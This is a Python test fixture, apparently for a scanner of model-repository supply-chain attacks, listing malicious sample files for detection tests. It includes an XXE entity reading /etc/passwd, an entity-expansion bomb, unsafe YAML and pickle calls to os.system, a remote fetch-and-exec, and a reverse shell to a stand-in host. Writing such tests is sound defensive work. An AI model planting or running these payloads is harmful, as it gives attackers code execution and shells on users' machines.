"""Malicious texts beside a model."""

from __future__ import annotations

import json

from tests.supply.corpus.case import Case
from tests.supply.corpus.graphs import REACHES, TRIGGER


def _text(value: object) -> bytes:
    return value.encode() if isinstance(value, str) else json.dumps(value).encode()


_PMML = '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>'
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    '<PMML version="4.4">&c;</PMML>'
)
_SKOPS = {
    "__class__": "FunctionNode",
    "__module__": "os",
    "__loader__": "FunctionNode",
    "content": {"module_path": "os", "function": "system"},
    "protocol": 2,
}
_FETCHES = "import urllib.request\nexec(urllib.request.urlopen('http://x.invalid/a.py').read())\n"
_DECODES = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
_SHELL = (
    "import socket,subprocess,os\ns=socket.socket()\ns.connect(('x.invalid',1))\n"
    "os.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n"
)

TEXTS: tuple[Case, ...] = tuple(
    Case(name, file, lambda value=value: _text(value))  # type: ignore[misc]
    for name, file, value in (
        ("config: code of its own", "config.json", {"model_type": "x", "auto_map": {"AutoModel": "modeling.Evil"}}),
        ("config: code of another repository", "config.json", {"auto_map": {"AutoModel": "evil/repo--modeling.Evil"}}),
        ("tokenizer: code of its own", "tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["tok.Evil", None]}}),
        ("template that reaches Python", "tokenizer_config.json", {"chat_template": REACHES}),
        ("template with a trigger", "chat_template.jinja", TRIGGER),
        ("template alone that reaches Python", "chat_template.jinja", REACHES + "{% for m in messages %}{% endfor %}"),
        ("pmml: an entity that reads a file", "model.pmml", _PMML),
        ("pmml: entities without end", "model.pmml", _LAUGHS),
        ("skops: a function", "schema.json", _SKOPS),
        ("requirements: another index", "requirements.txt", "--extra-index-url http://x.invalid/simple\ntorch==2.0\n"),
        ("requirements: an address", "requirements.txt", "x @ http://x.invalid/x-1.tar.gz\n"),
        ("code that fetches and runs", "modeling.py", _FETCHES),
        ("code that decodes and runs", "modeling.py", _DECODES),
        ("code that opens a shell", "setup.py", _SHELL),
        ("yaml that calls", "conda.yaml", "a: !!python/object/apply:os.system ['echo x']\n"),
        (
            "a notebook that fetches and runs",
            "train.ipynb",
            {
                "cells": [
                    {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 1, "source": [_FETCHES]}
                ],
                "metadata": {},
                "nbformat": 4,
                "nbformat_minor": 5,
            },
        ),
        ("a pickle in protocol 0 called text", "vocab.txt", "cos\nsystem\n(S'echo x'\ntR."),
    )
)
